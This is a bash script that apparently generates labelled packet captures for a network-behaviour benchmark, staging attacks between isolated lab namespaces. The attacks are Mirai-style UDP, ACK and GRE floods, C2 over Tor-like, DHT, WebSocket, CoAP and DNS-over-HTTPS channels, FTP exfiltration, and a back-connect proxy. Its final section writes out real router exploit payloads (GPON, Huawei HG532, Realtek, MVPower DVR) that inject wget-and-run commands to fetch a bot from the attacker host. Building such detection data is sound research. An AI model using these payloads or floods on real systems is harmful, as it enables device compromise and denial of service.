#!/usr/bin/env bash
# A SIXTH fresh attack set ("f6-*"): techniques none of the earlier sets used, made with real tools (and small
# bounded Python programs where no packaged tool does the job) between network namespaces. The device as a DDoS
# bot (a UDP flood at full and at low rate, a TCP ACK flood, a Mirai-style GRE flood), C2 over a Tor-shaped link
# protocol, a BitTorrent DHT (a Mozi-style P2P botnet), a WebSocket, CoAP and DNS over HTTPS, exfiltration over
# FTP, the device as a node of a back-connect proxy network, and Mirai-style HTTP exploits against its
# neighbours, which then fetch the bot from the device. The lab is fresh-lab.sh's (attacker = the device
# 10.66.0.10 02:66:00:00:00:10, victim 10.66.0.20 02:66:00:00:00:20, dummies .31-.34, a routed "internet"
# 10.128.0.0/9 behind the victim), with its own namespaces (prefix f6-) and veth names (f6p-*).
# Internet hosts are addresses on the victim's lo (10.128.91.x, 10.128.93.x) or ranges routed to it
# (`ip route add local`: 10.128.80.0/24 web servers, 10.128.150.0/24 Tor relays, 10.128.200.0/22 DHT nodes);
# every other 10.128/9 address is on no host (the device's packets to it end at its gateway, the victim).
# Each id's servers are started before its capture and stopped after it.
# tcpdump on the device's veth; OUT/attacks/<id>.pcap and OUT/attacks/index.jsonl (gen-attacks.sh's format).
# Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit.
#
# Tools (Debian): hping3 python3-scapy lftp vsftpd libcoap3-bin python3-websockets python3-dnslib
#   python3-libtorrent busybox curl openssl tcpdump wireshark-common bc
# Helpers (fresh6/): gre-flood.py, torlike.py, dht-nodes.py, dht-client.py, ws-c2.py, doh-c2.py, backconnect.py,
#   exploit-target.py.
#
# Usage: bash bench/behavior/fresh6/gen-fresh6.sh [--out DIR (default /work/behavior-bench-fresh6)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh6
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f6 GEN=gen-fresh6
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

# ---------- network ----------
lab_network
sleep 1

# ---------- "internet" hosts ----------
# .91.20 FTP, .91.21 WebSocket C2 (443), .91.22 CoAP C2, .91.23 DoH (443), .91.24 back-connect controller;
# .93.1-4 the flood targets
internet_hosts 10.128.91.20 10.128.91.21 10.128.91.22 10.128.91.23 10.128.91.24 10.128.93.1 10.128.93.2 10.128.93.3 \
  10.128.93.4
ns vic ip route add local 10.128.80.0/24 dev lo     # web servers (the proxied requests' destinations)
ns vic ip route add local 10.128.150.0/24 dev lo    # Tor relays (10.128.151.x: relays that are down)
ns vic ip route add local 10.128.200.0/22 dev lo    # DHT nodes
[ -f "$W/tls.key" ] || openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=www.cdn-update.example" \
  -keyout "$W/tls.key" -out "$W/tls.crt" >/dev/null 2>&1
export NET VIC_IP ATT_IP W PY HERE


# ---------- 1-4. the device as a DDoS bot (one public target each) ----------
# Mirai's "udpplain": 512-byte datagrams to changing ports, 1,000 a second for 8 s
if want f6-udp-flood; then
  CAP_VIC_IP=10.128.93.1 cap f6-udp-flood dos hping3-udp-flood attacker public false 60 \
    hping3 -n -q --udp -d 512 -s 40000 -p ++1024 -i u1000 -c 8000 10.128.93.1
fi
# the same at a rate a bot keeps up unnoticed: 64-byte datagrams to port 53, 20 a second for 60 s
if want f6-udp-flood-lowrate; then
  CAP_VIC_IP=10.128.93.2 cap f6-udp-flood-lowrate dos hping3-udp-flood-lowrate attacker public false 90 \
    hping3 -n -q --udp -d 64 -s 50000 -p 53 -k -i u50000 -c 1200 10.128.93.2
fi
# Mirai's "ack": bare ACKs with 512 random bytes to port 80 (no handshake), 600 a second for 10 s
if want f6-ack-flood; then
  CAP_VIC_IP=10.128.93.3 cap f6-ack-flood dos hping3-ack-flood attacker public false 60 \
    hping3 -n -q -A -d 512 -p 80 -i u1666 -c 6000 10.128.93.3
fi
# Mirai's "greip": GRE carrying IPv4/UDP with random inner addresses, 300 a second for 10 s
if want f6-gre-flood; then
  CAP_VIC_IP=10.128.93.4 cap f6-gre-flood dos scapy-gre-ip-flood attacker public false 60 \
    $PY "$HERE/gre-flood.py" 10.128.93.4 3000 300
fi

# ---------- 5. Tor-shaped C2: DirPort fetches, fallback directories, three guards and circuits ----------
if want f6-tor-like; then
  srv vic 200 $PY "$HERE/torlike.py" server "$W/tls.crt" "$W/tls.key"
  TOR_PID=$BG
  sleep 2
  CAP_WAN=$WAN CAP_VIC_IP=10.128.150.31 cap f6-tor-like c2 tor-link-protocol-client attacker wan false 130 \
    $PY "$HERE/torlike.py" client 90 \
    10.128.150.5:9030,10.128.151.6:9030,10.128.150.7:9030 \
    10.128.151.11:9001,10.128.150.12:443,10.128.151.13:443,10.128.150.14:9001,10.128.150.15:443,10.128.150.16:9001 \
    10.128.150.31:9001,10.128.150.47:443,10.128.150.63:9001
  stopbg "$TOR_PID"
fi

# ---------- 6. a Mozi-style P2P bot: joins the BitTorrent DHT (libtorrent), looks up and announces keys ----------
if want f6-dht-p2p; then
  srv vic 200 $PY "$HERE/dht-nodes.py" 10.128.200.0 1024 25 6881 6889 51413 21841 35577
  DHT_PID=$BG
  sleep 1
  CAP_WAN=$WAN CAP_VIC_IP=10.128.200.1 cap f6-dht-p2p c2 libtorrent-dht-p2p attacker wan false 110 \
    $PY "$HERE/dht-client.py" "$ATT_IP" 75 20 10.128.200.1:6881 10.128.201.77:51413 10.128.202.9:6889
  stopbg "$DHT_PID"
fi

# ---------- 7. exfiltration over FTP: lftp uploads three files to an anonymous drop (passive mode) ----------
if want f6-ftp-exfil; then
  anon_ftp_drop 10.128.91.20 "$W/vsftpd.conf" </dev/null
  mkdir -p "$W/loot"
  for f in snap-0001.jpg snap-0002.jpg config.tar; do
    [ -f "$W/loot/$f" ] || head -c 2000000 /dev/urandom > "$W/loot/$f"
  done
  srv vic 120 /usr/sbin/vsftpd "$W/vsftpd.conf"
  FTP_PID=$BG
  sleep 1
  CAP_VIC_IP=10.128.91.20 cap f6-ftp-exfil exfil lftp-ftp-upload attacker public false 60 \
    lftp -e "set ftp:passive-mode on; set net:timeout 5; set net:max-retries 1; cd incoming; \
put $W/loot/snap-0001.jpg -o cam7f3a-0001.jpg; put $W/loot/snap-0002.jpg -o cam7f3a-0002.jpg; \
put $W/loot/config.tar -o cam7f3a.tar; ls; bye" -u anonymous,x@example.net 10.128.91.20
  stopbg "$FTP_PID"
fi

# ---------- 8. WebSocket C2 over TLS (wss:// on 443), one connection, a task every 6-12 s ----------
if want f6-websocket-c2; then
  srv vic 200 $PY "$HERE/ws-c2.py" server 10.128.91.21 443 "$W/tls.crt" "$W/tls.key"
  WS_PID=$BG
  sleep 2
  CAP_VIC_IP=10.128.91.21 cap f6-websocket-c2 c2 python-websockets-wss attacker public false 110 \
    $PY "$HERE/ws-c2.py" client wss://10.128.91.21/gate/ws 90
  stopbg "$WS_PID"
fi

# ---------- 9. CoAP C2 (libcoap's coap-client from one UDP port): poll for a task, register, report ----------
if want f6-coap-c2; then
  srv vic 200 coap-server-notls -A 10.128.91.22 -p 5683 -d 20 -v 0
  COAP_PID=$BG
  sleep 1
  cat > "$W/coap-bot.sh" <<'EOS'
C=coap://10.128.91.22
cc() { timeout 8 coap-client-notls -p 56830 -B 4 "$@" >/dev/null 2>&1 || true; }
cc -m put -e "{\"bot\":\"7f3a\",\"arch\":\"armv7l\",\"fw\":\"2.1.4\"}" "$C/reg/7f3a"
for i in $(seq 1 30); do
  cc -m get "$C/time"
  [ $((i % 3)) -eq 0 ] && cc -m put -e "$(head -c 90 /dev/urandom | base64 -w0)" "$C/r/7f3a/$i"
  [ $((i % 10)) -eq 0 ] && cc -m get "$C/example_data"
  sleep 2.$((RANDOM % 9))
done
EOS
  CAP_VIC_IP=10.128.91.22 cap f6-coap-c2 c2 libcoap-coap-client attacker public false 120 bash "$W/coap-bot.sh"
  stopbg "$COAP_PID"
fi

# ---------- 10. C2 in DNS over HTTPS (Godlua-style): TXT tasks and data in names, POST and GET /dns-query ----------
if want f6-doh-c2; then
  srv vic 200 $PY "$HERE/doh-c2.py" server 10.128.91.23 "$W/tls.crt" "$W/tls.key"
  DOH_PID=$BG
  sleep 2
  CAP_VIC_IP=10.128.91.23 cap f6-doh-c2 c2 python-doh-rfc8484 attacker public false 120 \
    $PY "$HERE/doh-c2.py" client 10.128.91.23 40
  stopbg "$DOH_PID"
fi

# ---------- 11. the device as a back-connect proxy node: 45 customers' requests to 20 web servers ----------
if want f6-backconnect-proxy; then
  mkdir -p "$W/www"
  for p in index.html login cart; do head -c 6000 /dev/urandom | base64 > "$W/www/$p"; done
  srv vic 200 busybox httpd -f -p 0.0.0.0:80 -h "$W/www"
  WWW_PID=$BG
  srv vic 200 $PY "$HERE/backconnect.py" server 10.128.91.24 7070 45 10.128.80. 20
  BC_PID=$BG
  sleep 1
  CAP_WAN=$WAN CAP_VIC_IP=10.128.91.24 cap f6-backconnect-proxy proxy python-backconnect-proxy attacker wan false 120 \
    $PY "$HERE/backconnect.py" agent 10.128.91.24 7070 85
  stopbg "$BC_PID"
  stopbg "$WWW_PID"
fi

# ---------- 12. Mirai-style spreading by HTTP exploits to neighbours; infected ones fetch the bot from the device ----------
if want f6-http-exploit-spread; then
  mkdir -p "$W/bins"
  for a in mips mpsl arm7 x86; do [ -f "$W/bins/$a" ] || head -c 90000 /dev/urandom > "$W/bins/$a"; done
  # the device's loader: busybox httpd on 8088 with the bot's builds
  srv att 200 busybox httpd -f -p "$ATT_IP:8088" -h "$W/bins"
  LOADER_PID=$BG
  # .31 a GPON-like router (80, 8080; vulnerable), .32 a Huawei/Realtek-like router (37215, 52869; vulnerable),
  # .33 a patched web server (80), .34 and .20 nothing on these ports
  srv d31 200 $PY "$HERE/exploit-target.py" "$NET.31" "http://$ATT_IP:8088/" 80 8080
  B31=$BG
  srv d32 200 $PY "$HERE/exploit-target.py" "$NET.32" "http://$ATT_IP:8088/" 37215 52869
  B32=$BG
  srv d33 200 $PY "$HERE/exploit-target.py" "$NET.33" - 80
  B33=$BG
  sleep 2
  cat > "$W/exploit.sh" <<'EOS'
L="http://$ATT_IP:8088/bins"
UA='Hello, World'
for h in 31 32 33 34 20; do
  t=$NET.$h
  for p in 80 8080; do   # GPON (CVE-2018-10561/10562)
    timeout 5 curl -s -m 3 -o /dev/null -A "$UA" -X POST "http://$t:$p/GponForm/diag_Form?images/" \
      --data "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`busybox+wget+$L/mips+-O+/tmp/gpon$p;sh+/tmp/gpon$p\`&ipv=0" || true
  done
  # Huawei HG532 (CVE-2017-17215)
  timeout 5 curl -s -m 3 -o /dev/null -A "$UA" -X POST "http://$t:37215/ctrlt/DeviceUpgrade_1" \
    -H 'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"' \
    --data "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>\$(/bin/busybox wget -g $ATT_IP -l /tmp/.h -r /bins/mpsl; /tmp/.h huawei)</NewStatusURL><NewDownloadURL>\$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>" || true
  # Realtek SDK miniigd (CVE-2014-8361)
  timeout 5 curl -s -m 3 -o /dev/null -A "$UA" -X POST "http://$t:52869/picsdesc.xml" \
    -H 'SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' \
    --data "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>\`cd /var; wget $L/arm7; chmod 777 arm7; ./arm7 realtek\`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>" || true
  # MVPower DVR shell
  timeout 5 curl -s -m 3 -o /dev/null -A "$UA" "http://$t/shell?cd+/tmp;wget+$L/arm7;chmod+777+arm7;./arm7+dvr" || true
  sleep 1
done
sleep 5
EOS
  cap f6-http-exploit-spread lateral curl-mirai-http-exploits attacker lan false 90 bash "$W/exploit.sh"
  for p in "$B31" "$B32" "$B33" "$LOADER_PID"; do stopbg "$p"; done
fi

# ---------- index ----------
lab_index
